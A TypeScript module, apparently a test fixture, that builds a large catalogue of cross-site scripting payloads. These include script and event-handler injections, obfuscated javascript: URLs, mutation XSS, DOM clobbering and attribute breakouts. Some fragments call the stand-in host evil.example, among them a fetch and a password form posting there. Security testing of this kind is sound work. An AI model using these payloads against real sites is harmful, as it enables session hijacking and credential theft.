/**
 * Makes a fragment that leaves its mark when any part of it runs.
 *
 * @param run a statement that leaves the mark; without quotes, spaces and brackets, so that it fits into any attribute
 * @param theirs an address of a foreign host with the mark in it
 */
type Maker = (run: string, theirs: string) => string

/** As character references, which browsers decode before they look at the scheme. */
const coded = (text: string) => [...text].map((character) => `&#${character.charCodeAt(0)}`).join(';')
const based = (text: string) => Buffer.from(text).toString('base64')

const scripts: readonly Maker[] = [
  (run) => `<script>${run}</script>`,
  (_, theirs) => `<SCRIPT SRC="${theirs}"></SCRIPT>`,
  (run) => `<scr<script>ipt>${run}</scr</script>ipt>`,
  (run) => `<script/x>${run}</script\n>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run, theirs) => `<svg><script href="${theirs}" />${run}</svg>`,
  (run) => `<script type="module">${run}</script>`,
  (_, theirs) => `<script>fetch(\`${theirs}\`)</script>`,
  (run) => `%3Cscript%3E${run}%3C/script%3E`,
  (run) => `&lt;script&gt;${run}&lt;/script&gt;`,
  (run) => `＜script＞${run}＜/script＞`,
  (run) => `\${${run}}{{constructor.constructor('${run}')()}}`,
]

const handlers: readonly Maker[] = [
  (run) => `<img src=x onerror=${run}>`,
  (run) => `<img src="/x" onerror="${run}" alt="a port">`,
  (run) => `<IMG """><IMG SRC=/ ONERROR=${run}>"`,
  (run) => `<img/src="/x"/onerror=${run}//>`,
  (run) => `<img src="/x"\u000Conerror=${run}>`,
  (run) => `<img src="/artwork/vineyard.webp" onload="${run}">`,
  (run) => `<p onclick="${run}" onmouseover="${run}" onpointerenter=${run}>a word</p>`,
  (run) =>
    `<p style="animation:x" onanimationstart=${run} ontransitionend=${run}>a word</p><style>@keyframes x{}</style>`,
  (run) => `<a href="/news" onfocus="${run}" autofocus tabindex=1>a link</a>`,
  (run) => `<input onfocus=${run} autofocus>`,
  (run) => `<details open ontoggle=${run}><summary>more</summary></details>`,
  (run) => `<video src=x onerror=${run}></video><audio src=x onerror=${run}></audio>`,
  (run) => `<video><source onerror="${run}"></video>`,
  (run) => `<body onload=${run} onpageshow=${run}>`,
  (run) => `<marquee onstart=${run}>a word</marquee>`,
  (run) =>
    `<button popovertarget=pop autofocus onfocus=${run}>press</button><b popover id=pop onbeforetoggle=${run}>a word</b>`,
  (run) => `<select autofocus onfocus=${run}><option>a</select>`,
  (run) => `<object data="data:,x" onload=${run} onerror=${run}></object>`,
  (run) =>
    `<strong oncontentvisibilityautostatechange=${run} style="display:block;content-visibility:auto">a word</strong>`,
  (run) => `<custom-tag onwheel=${run} onfocusin=${run} tabindex=0 autofocus>a word</custom-tag>`,
]

const drawings: readonly Maker[] = [
  (run) => `<svg onload=${run}></svg>`,
  (run) => `<svg/onload=${run}//>`,
  (run) => `<svg><animate onbegin=${run} attributeName=x dur=1s></svg>`,
  (run) => `<svg><a><animate attributeName="href" values="javascript:${run}"/><text y="20">a word</text></a></svg>`,
  (run) =>
    `<svg><a id="there"><set attributeName="xlink:href" to="javascript:${run}"/><text y="20">a word</text></a></svg>`,
  (run) => `<svg><image href="x" onerror=${run}></image></svg>`,
  (run) =>
    `<svg><use href="data:image/svg+xml;base64,${based(`<svg id="x" xmlns="http://www.w3.org/2000/svg"><script>${run}</script></svg>`)}#x"/></svg>`,
  (run) =>
    `<svg><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" srcdoc="<script>parent.${run.slice('window.'.length)}</script>"></iframe></foreignObject></svg>`,
  (run) => `<math href="javascript:${run}"><mtext>a word</mtext></math>`,
  (run) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${run}">a word</maction></math>`,
  (_, theirs) => `<svg><image href="${theirs}"/><feImage href="${theirs}"/></svg>`,
]

const documents: readonly Maker[] = [
  (run) => `<iframe src="javascript:parent.${run.slice('window.'.length)}"></iframe>`,
  (run) => `<iframe srcdoc="&lt;img src=x onerror=parent.${run.slice('window.'.length)}&gt;"></iframe>`,
  (_, theirs) => `<iframe src="${theirs}"></iframe><frameset><frame src="${theirs}"></frameset>`,
  (run) => `<embed src="javascript:${run}"><embed code="javascript:${run}">`,
  (_, theirs) =>
    `<object data="${theirs}"><param name="src" value="${theirs}"></object><applet code="${theirs}"></applet>`,
  (_, theirs) => `<link rel="stylesheet" href="${theirs}"><link rel=preload as=image href="${theirs}">`,
  (_, theirs) => `<style>@import "${theirs}"; body { background: url(${theirs}) !important }</style>`,
  (_, theirs) => `<meta http-equiv="refresh" content="0; url=${theirs}">`,
  (run) => `<meta http-equiv="refresh" content="0;javascript:${run}">`,
  (_, theirs) => `<base href="${theirs}/"><img src="x.png">`,
  (_, theirs) =>
    `<form action="${theirs}"><input name=password autofocus><button formaction="${theirs}">Sign in</button></form>`,
  (run) =>
    `<form id=f></form><button form=f formaction="javascript:${run}">press</button><isindex action="javascript:${run}" type=image>`,
  (run) =>
    `<template><img src=x onerror=${run}></template><template shadowrootmode=open><img src=x onerror=${run}></template>`,
  (_, theirs) =>
    `<video poster="${theirs}" src="${theirs}" autoplay></video><audio src="${theirs}" autoplay></audio><track src="${theirs}">`,
  (_, theirs) => `<table background="${theirs}"><tr><td background="${theirs}">a word</td></tr></table>`,
]

const addresses: readonly Maker[] = [
  (run) => `<a href="javascript:${run}">a link</a>`,
  (run) => `<a href="JaVaScRiPt:${run}">a link</a>`,
  (run) => `<a href=" \u0001\u001Fjavascript:${run}">a link</a>`,
  (run) => `<a href="java\tscr\nipt:${run}">a link</a>`,
  (run) => `<a href="jav&#x09;ascript&colon;${run}">a link</a>`,
  (run) => `<a href="${coded(`javascript:${run}`)}">a link</a>`,
  (run) => `<a href="javascript://%0a${run}">a link</a>`,
  (run) => `<a href="\u00A0\u200Bjavascript:${run}">a link</a>`,
  (run) =>
    `<a href="data:text/html;base64,${based(`<script>opener.${run.slice('window.'.length)}</script>`)}">a link</a>`,
  (run) =>
    `<a href="vbscript:${run}">a link</a> <a href="livescript:${run}">a link</a> <a href="feed:javascript:${run}">a link</a>`,
  (run) =>
    `<a href="blob:${run}">a link</a> <a href="view-source:javascript:${run}">a link</a> <a href="filesystem:x">a link</a>`,
  (run) => `<a xlink:href="javascript:${run}" href="javascript&#58;${run}">a link</a>`,
  (_, theirs) => `<a href="/news" ping="${theirs}" target="_top">a link</a>`,
  (run) =>
    `<img src="javascript:${run}"><img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='${run}'/%3E"><img src="vbscript:${run}">`,
  (_, theirs) => `<img src="/artwork/vineyard.webp" srcset="${theirs} 1x, ${theirs} 2x" alt="hills">`,
  (_, theirs) =>
    `<picture><source srcset="${theirs}"><img src="/artwork/vineyard.webp" lowsrc="${theirs}" dynsrc="${theirs}"></picture>`,
  (run, theirs) =>
    `<p style="background:url(${theirs});width:expression(${run});behavior:url(${theirs});-moz-binding:url(${theirs})">a word</p>`,
  (run, theirs) =>
    `<blockquote cite="javascript:${run}" style="background-image:url('javascript:${run}');list-style:url(${theirs})">a word</blockquote>`,
]

/** Mutation XSS: harmless to a sanitiser, but not to the browser that parses the sanitiser's output. */
const mutations: readonly Maker[] = [
  (run) =>
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}></style></mglyph></form></mtext></math></form>`,
  (run) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;"></table></mtext></math>`,
  (run) => `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></a></style></svg>`,
  (run) => `<math><mi><mglyph><style><img src=x onerror=${run}></style></mglyph></mi></math>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>"></p></noscript>`,
  (run) =>
    `<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=${run}>"></a></select>`,
  (run) => `<svg><desc><noembed></desc></svg><img src=x onerror=${run}></noembed>`,
  (run) => `<textarea></textarea><script>${run}</script></textarea>`,
  (run) => `<title></title><img src=x onerror=${run}></title>`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>"></p></xmp>`,
  (run) => `<!--><img src=x onerror=${run}>-->`,
  (run) => `<!-- --!><img src=x onerror=${run}><!-- -->`,
  (run) => `<!--[if gte IE 4]><script>${run}</script><![endif]--><?xml-stylesheet href="javascript:${run}"?>`,
  (run) => `<svg><![CDATA[><img src=x onerror=${run}>]]></svg>`,
  (run) => `]]><script>${run}</script><![CDATA[]]>`,
  (run) => `<a title="&quot;&gt;&lt;img src=x onerror=${run}&gt;" href="/news">a link</a>`,
  (run) => `<img alt="\`><img src=x onerror=${run}>" src="/artwork/vineyard.webp">`,
  (run) => `<table><a href="javascript:${run}"><tr><td></a><img src=x onerror=${run}></td></tr></table>`,
  (run) => `${'<div>'.repeat(300)}<style><img src=x onerror=${run}></style>${'</div>'.repeat(300)}`,
  (run) =>
    `<p id="a"><annotation-xml encoding="text/html"><style><img src=x onerror=${run}></style></annotation-xml></p>`,
]

/** DOM clobbering: replaces the page's own variables. Nothing runs by itself; the page's code would run it. */
const shadows: readonly Maker[] = [
  (_, theirs) =>
    `<form name="body" id="cookie"><input name="attributes"><input id="nodeName" name="childNodes" value="${theirs}"></form>`,
  (_, theirs) =>
    `<a id="supabase"></a><a id="supabase" name="url" href="${theirs}">a link</a><img name="cookie" src="/artwork/vineyard.webp">`,
  (_, theirs) =>
    `<a id="location" name="href" href="${theirs}">a link</a><iframe name="self" src="${theirs}"></iframe><embed name="getElementById"><img name="createElement">`,
  (run) =>
    `<p id="root" class="fixed inset-0" data-slot="${run}" aria-hidden="true" contenteditable="true" is="x-y">a word</p>`,
]

/** Breaks out of an attribute, a text or a line that code joins by hand. */
const breakouts: readonly Maker[] = [
  (run) => `"><script>${run}</script>`,
  (run) => `' onmouseover='${run}' x='`,
  (run) => `" autofocus onfocus="${run}" x="`,
  (run) => `'"--></style></script><svg onload=${run}></svg>`,
  (run) => `\`-${run}-\` '-${run}-' \\'-${run}//`,
  (run) => `\u202E<img src=x onerror=${run}>\u202C\u2028\uFEFF`,
  (run) => `<img src=x onerror=\\u0077${run.slice(1)}>`,
  (run) => `<img src=x onerror="alert(${run.split('=')[1]})">`,
]

/** Unclosed markup swallows whatever follows it, so each of these needs its own text. */
const openEnded: readonly Maker[] = [
  (run) => `<img src=x onerror=${run} `,
  (run) => `<!-- a comment <img src=x onerror=${run}>`,
  (run) => `<style><img src=x onerror=${run}>`,
  (run) => `<textarea><img src=x onerror=${run}>`,
  (run) => `<noscript><style></noscript><img src=x onerror=${run}>`,
  (run) => `<plaintext><img src=x onerror=${run}>`,
  (run) => `<svg><style><img src=x onerror=${run}>`,
  (run) =>
    `<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror='${run}'>">`,
  (run) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  (run) => `<svg><title><![CDATA[</title><img src=x onerror=${run}>`,
  (_, theirs) => `<img src='${theirs}?`,
]

const closed = [
  ...scripts,
  ...handlers,
  ...drawings,
  ...documents,
  ...addresses,
  ...mutations,
  ...shadows,
  ...breakouts,
]

/** The foreign host of the fragments. */
export const foreignHost = 'evil.example'

/** Every hostile fragment. Its mark is its position, from 1: it sets `window.__owned` to the mark, alerts it or requests it from the foreign host. */
export const hostileFragments: readonly string[] = [...closed, ...openEnded].map((make, index) =>
  make(`window.__owned=${index + 1}`, `https://${foreignHost}/${index + 1}`),
)

/** How many fragments share a rich text; few, because one may hide another. */
const together = 7

function textsOf(fragments: readonly string[]): readonly string[] {
  const groups = Array.from({ length: Math.ceil(closed.length / together) }, (_, index) =>
    fragments.slice(index * together, Math.min((index + 1) * together, closed.length)),
  )
  return [
    fragments.slice(0, closed.length),
    ...groups,
    ...fragments.slice(closed.length).map((fragment) => [fragment]),
  ].map((parts) => parts.join('\n'))
}

/** Hostile rich texts: one with nearly all fragments, then each fragment among a few others, then each unclosed one alone. */
export const hostileTexts: readonly string[] = textsOf(hostileFragments)

/**
 * Deals the fragments out to plain fields, a different one each time.
 *
 * @returns a function that takes the length of a field and returns the next whole fragment that fits
 */
export function fragmentDealer(): (length: number) => string {
  const left = [...hostileFragments]
  return (length) => {
    // Without white space at the ends, because forms and the database trim it, on one line, and without what turns a line round.
    const index = left.findIndex(
      (fragment) =>
        fragment.length <= length &&
        fragment === fragment.trim() &&
        !/[\p{Cc}\u2028\u2029\u200b\u2060\ufeff\u202a-\u202e\u2066-\u2069]/u.test(fragment),
    )
    const [dealt] = left.splice(index, 1)
    if (index === -1 || dealt === undefined) throw new Error(`No fragment is shorter than ${length} characters`)
    left.push(dealt)
    return dealt
  }
}
